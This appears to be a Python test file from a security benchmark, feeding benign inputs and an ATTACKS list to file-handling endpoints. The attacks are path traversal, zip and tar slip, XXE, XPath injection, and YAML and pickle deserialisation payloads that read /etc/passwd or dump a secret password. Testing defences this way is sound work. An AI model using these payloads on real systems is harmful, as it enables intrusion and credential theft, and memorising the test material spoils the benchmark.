"""Files that arrive: paths, archives, XML, YAML, pickles, spreadsheets."""

import base64
import io
import pickle

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.tenth import (
    CSS,
    LETTER,
    LONG,
    MARKUP,
    PEOPLE,
    TRACE,
    alb,
    api,
    b64,
    bus,
    http,
    multipart,
    pool,
    put,
    queue,
    tarred,
    topic,
    zipped,
)

NEEDS = ("aws-http",)
PASSWORD = "inbox-pass-8814"
LAUGHS = '<!DOCTYPE i [<!ENTITY x SYSTEM "file:///var/task/vault.py">]>'


def _proxy(path: str) -> dict[str, object]:
    return api("GET", f"/files/{path}", ids={"proxy": path})


def _lang(lang: str) -> dict[str, object]:
    return api("GET", "/i18n", query={"lang": lang})


def _stored(key: str, data: bytes) -> tuple[str, dict[str, object]]:
    return ("put_file", http("POST", "/put", {"key": key, "data": b64(data)}))


def _tar(data: bytes) -> dict[str, object]:
    return queue({"archive": b64(data)})


def _invoice(note: str, head: str = "") -> dict[str, object]:
    return alb(
        "POST",
        "/invoice",
        f"{head}<invoice><id>4711</id><note>{note}</note><line><title>Tea &amp; cup</title><price>4.5</price></line></invoice>",
    )


def _soap(inner: str) -> dict[str, object]:
    return http(
        "POST",
        "/soap",
        f'<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body>{inner}</s:Body></s:Envelope>',
        headers={"content-type": "text/xml"},
    )


def _yaml(text: str) -> dict[str, object]:
    return http("POST", "/config", text, headers={"content-type": "application/yaml"})


def _cookie(data: object) -> dict[str, object]:
    raw = base64.urlsafe_b64encode(data if isinstance(data, bytes) else pickle.dumps(data)).decode()
    return http("GET", "/me", headers={"cookie": f"lang=de; session={raw}; _ga=GA1.2.3"})


def _book(rows: list[list[object]], title: str = "Sheet 1", prefix: str = "") -> dict[str, object]:
    import zipfile

    # A minimal workbook, without openpyxl here.
    def cell(value: object) -> str:
        text = str(value).replace("&", "&amp;").replace("<", "&lt;")
        return f'<c t="inlineStr"><is><t>{text}</t></is></c>'

    sheet = "".join("<row>" + "".join(map(cell, row)) + "</row>" for row in rows)
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006"
    safe = title.replace("&", "&amp;").replace('"', "&quot;")
    files = {
        "[Content_Types].xml": f'<Types xmlns="{package}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{package}/relationships"><Relationship Id="rId1" Type="{office}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook xmlns="{main}" xmlns:r="{office}"><sheets><sheet name="{safe}" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{package}/relationships"><Relationship Id="rId1" Type="{office}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{main}"><sheetData>{sheet}</sheetData></worksheet>',
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in files.items():
            archive.writestr(zipfile.ZipInfo(name), '<?xml version="1.0"?>' + content)
    return bus("Workbook Uploaded", {"data": b64(buffer.getvalue()), "prefix": prefix})


def _mail(subject: str, *names: str, text: str = "Hello") -> dict[str, object]:
    parts = "".join(
        f'--b1\nContent-Type: text/plain\nContent-Disposition: attachment; filename="{name}"\n\nx\n'
        for name in names
    )
    return topic(
        f"From: a@example.org\nSubject: {subject}\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b1\n\n"
        f"--b1\nContent-Type: text/plain\n\n{text}\n{parts}--b1--\n"
    )


def _object(name: str, tenant: str = "acme") -> dict[str, object]:
    return api("GET", "/object", query={"name": name}, claims={"sub": "u", "custom:tenant": tenant})


def _gone(user: str) -> dict[str, object]:
    return pool("PreSignUp_AdminCreateUser", user, {"email": "x@example.org"})


REQUESTS = {
    "download": [
        _proxy("docs/read%20me%20(1).txt"),
        _proxy("index.html"),
        _proxy("docs/o'neil & co..txt"),
        _proxy("a/b/c.pdf"),
    ],
    "translations": [_lang("de"), _lang("pt-BR"), _lang("zh-Hant"), _lang("de;q=0.9")],
    "store_upload": [
        multipart("/upload", "holiday (1).jpg", b"\xff\xd8\xff\xe0JFIF", {"title": "It's us & the 'dog'"}),
        multipart("/upload", "o'neil report v1.0..final.txt", LETTER.encode()),
        multipart("/upload", "größe.csv", MARKUP.encode(), {"title": "../x"}),
    ],
    "put_file": [
        _stored(
            "2026/site v1 (final).zip",
            zipped({"index.html": "<p>it's</p>", "img/a b.png": "x", "css/..hidden.css": CSS}),
        )[1],
        _stored("o'neil/größe.zip", zipped({"notes/größe & more.md": MARKUP}))[1],
        _stored("a+b.txt", LONG.encode())[1],
    ],
    "unzip": [put("tenth-inbox", "2026/site v1 (final).zip"), put("tenth-inbox", "o'neil/größe.zip")],
    "untar": [
        _tar(tarred({"README.md": MARKUP, "src/app.py": "import os\nos.system('ls')\n"})),
        _tar(tarred({"README.md": LETTER, "a b/c (1).txt": "x"}, {"latest": "README.md"})),
        _tar(tarred({"x..y/z.txt": TRACE})),
    ],
    "invoice_xml": [
        _invoice('it&apos;s &lt;b&gt;50%&lt;/b&gt; &amp; "more"'),
        _invoice("see file:///etc/passwd and ../x; SYSTEM", '<?xml version="1.0"?>\n<!-- <!ENTITY no> -->'),
        _invoice("<![CDATA[<!DOCTYPE x> & 'y']]>"),
        _invoice("&co;", '<!DOCTYPE invoice [<!ENTITY co "Tea and Co">]>'),
    ],
    "soap": [
        _soap('<GetOrder><id>4711</id><note>it\'s &amp; "x"</note></GetOrder>'),
        _soap("<m:Add xmlns:m='urn:x'><a>1</a><b>SELECT 1; --</b></m:Add>"),
        _soap(f"<Find><name>{PEOPLE[0]}</name></Find>"),
    ],
    "user_lookup": [
        {"name": "ann"},
        {"name": "bob"},
        {"name": "Zoë Krüger-Smith (2nd)"},
        {"name": "a@b.example or more"},
    ],
    "site_config": [
        _yaml('title: It\'s & more\nitems:\n  - name: "a: b"\n    run: echo $HOME | tee x\n'),
        _yaml("base: &b {a: 1}\nx:\n  <<: *b\n  when: 2026-01-05T10:00:00+00:00\n"),
        _yaml("# comment !!python\ntext: |\n  import os\n  os.system('x')\n"),
    ],
    "safe_config": [
        _yaml("name: 'O''Neil'\ntags: [a, b]\n"),
        _yaml(
            'script:\n  - pip install -r ../requirements.txt\n  - python -c "import os; print(os.environ)"\n'
        ),
        _yaml("note: '!!python/object/apply:os.system [\"x\"]'\n"),
    ],
    "session": [
        _cookie({"user": "o'neil", "cart": [1, 2, {"sku": "A-1"}]}),
        _cookie({"user": PEOPLE[6], "flags": (True, None), "note": MARKUP}),
        http("GET", "/me"),
    ],
    "spreadsheet": [
        _book([["id", "name"], [1, PEOPLE[0]], ["=SUM(A1:A2)", "50%"]]),
        _book([["note"], [LETTER]], "Q1 'final' (2026)", "2026-"),
        _book([["a"]], "Größe & more", "o'neil "),
    ],
    "ini_settings": [
        {"config": "[mail]\nhost = smtp.example.org\nuser = o'neil\nsubject = 50%% off; it's\n"},
        {"config": "[paths]\nbase = /data\nlogs = %(base)s/logs\n"},
        {"config": "[x y]\n# comment [z]\nkey: value = more\nlist =\n  a\n  b\n"},
    ],
    "attachment": [
        _mail("It's 50% & more", "report (1).pdf", "größe.txt"),
        _mail("Re: ../x", text=LETTER),
        _mail("=?utf-8?q?Gr=C3=B6=C3=9Fe?=", "o'neil; final..v2.docx"),
    ],
    "tenant_object": [
        _object("logo.txt"),
        _object("o'neil%20(1).pdf"),
        _object("a..b/c.txt", "o-reilly_5"),
        _object("sub/dir/x.txt"),
    ],
    "cleanup": [_gone("ann"), _gone("o'neil"), _gone("x.y@example.org")],
}
ATTACKS = [
    Attack("path, read", "download", _proxy("../../private/plan.txt"), PASSWORD),
    Attack("path, read", "download", _proxy("..%2F..%2F..%2Fvar%2Ftask%2Fvault.py"), PASSWORD),
    Attack("path, read", "download", _proxy("%2e%2e/%2e%2e/%2e%2e/etc/passwd"), "root:x:0"),
    Attack("path, read", "download", _proxy("/var/task/vault.py"), PASSWORD),
    Attack("path, read", "download", _proxy("docs/../../../../proc/self/environ"), "AWS_LAMBDA"),
    Attack("path, read", "translations", _lang("....//....//var/task/vault.py"), PASSWORD),
    Attack("path, read", "translations", _lang("..././..././..././etc/passwd"), "root:x:0"),
    Attack(
        "path, write", "store_upload", multipart("/upload", "../jobs/own.sh", b"#!/bin/sh\n"), 'own.sh\\"]'
    ),
    Attack(
        "path, write",
        "store_upload",
        multipart("/upload", "..//jobs//cron 2.py", b"import os"),
        'cron 2.py\\"]}',
    ),
    Attack(
        "archive, zip",
        "unzip",
        put("tenth-inbox", "e1.zip"),
        '["own.ini"]',
        before=[_stored("e1.zip", zipped({"../conf/own.ini": "[x]"}))],
    ),
    Attack(
        "archive, zip",
        "unzip",
        put("tenth-inbox", "in/e 2.zip"),
        '["cron.d"]',
        before=[_stored("in/e 2.zip", zipped({"ok.txt": "x", "/tmp/site/conf/cron.d": "* * * * * root id"}))],
    ),
    Attack("archive, tar", "untar", _tar(tarred({"../own.txt": "x"})), "own.txt"),
    Attack("archive, tar link", "untar", _tar(tarred({}, {"README.md": "/var/task/vault.py"})), PASSWORD),
    Attack("archive, tar link", "untar", _tar(tarred({"up/own.cfg": "x"}, {"up": ".."})), "own.cfg"),
    Attack("XXE", "invoice_xml", _invoice("&x;", LAUGHS.replace(" i ", " invoice ")), PASSWORD),
    Attack(
        "XXE",
        "invoice_xml",
        _invoice("a&y;b", '<?xml version="1.0"?><!DOCTYPE invoice [<!ENTITY y SYSTEM "/etc/passwd">]>'),
        "root:x:0",
    ),
    Attack("XPath", "user_lookup", {"name": "x' or @role='dev"}, "bob@example.org"),
    Attack("XPath", "user_lookup", {"name": "x']/mail/text() | //pin/text() | //x['"}, PASSWORD),
    Attack(
        "XPath", "user_lookup", {"name": "' or starts-with(pin, 'inbox-pass') and ''='"}, "ann@example.org"
    ),
    Attack(
        "deserialiser, YAML",
        "site_config",
        _yaml("a: !!python/object/apply:os.getenv [INBOX_PASSWORD]\n"),
        PASSWORD,
    ),
    Attack(
        "deserialiser, YAML",
        "site_config",
        _yaml(
            "!!python/object/apply:subprocess.check_output\nargs: [printenv INBOX_PASSWORD]\nkwds: {shell: true}\n"
        ),
        PASSWORD,
    ),
    Attack(
        "deserialiser, YAML",
        "site_config",
        _yaml(
            "%TAG !p! tag:yaml.org,2002:python/\n---\nx: !p!object/new:eval ['open(\"vault.py\").read()']\n"
        ),
        PASSWORD,
    ),
    Attack("deserialiser, pickle", "session", _cookie(b"cos\ngetenv\n(S'INBOX_PASSWORD'\ntR."), PASSWORD),
    Attack(
        "deserialiser, pickle",
        "session",
        _cookie(b"cbuiltins\neval\n(V__import__('os').popen('printenv INBOX_PASSWORD').read()\ntR."),
        PASSWORD,
    ),
    Attack(
        "deserialiser, pickle",
        "session",
        _cookie(b"\x80\x04\x8c\x0asubprocess\x8c\x09getoutput\x93\x8c\x17printenv INBOX_PASSWORD\x85R."),
        PASSWORD,
    ),
    Attack("path, write", "spreadsheet", _book([["x"]], "own", "../"), "own.csv"),
    Attack("interpolation, INI", "ini_settings", {"config": "[a]\nx = %(password)s\n"}, PASSWORD),
    Attack("path, mail", "attachment", _mail("x", "../rules/own.json"), 'own.json"]'),
    Attack("path, mail", "attachment", _mail("x", "/tmp/mail/rules/forward.eml"), 'forward.eml"]'),
    Attack("path, S3 key", "tenant_object", _object("../../internal/keys.txt"), PASSWORD),
    Attack("path, S3 key", "tenant_object", _object("..%2f..%2finternal%2fkeys.txt"), PASSWORD),
    Attack("path, S3 key", "tenant_object", _object("keys.txt", "../internal"), PASSWORD),
    Attack("path, delete", "cleanup", _gone("../keep"), '"left": ["users"]'),
    Attack("path, delete", "cleanup", _gone("../users"), '"left": ["keep"]'),
]
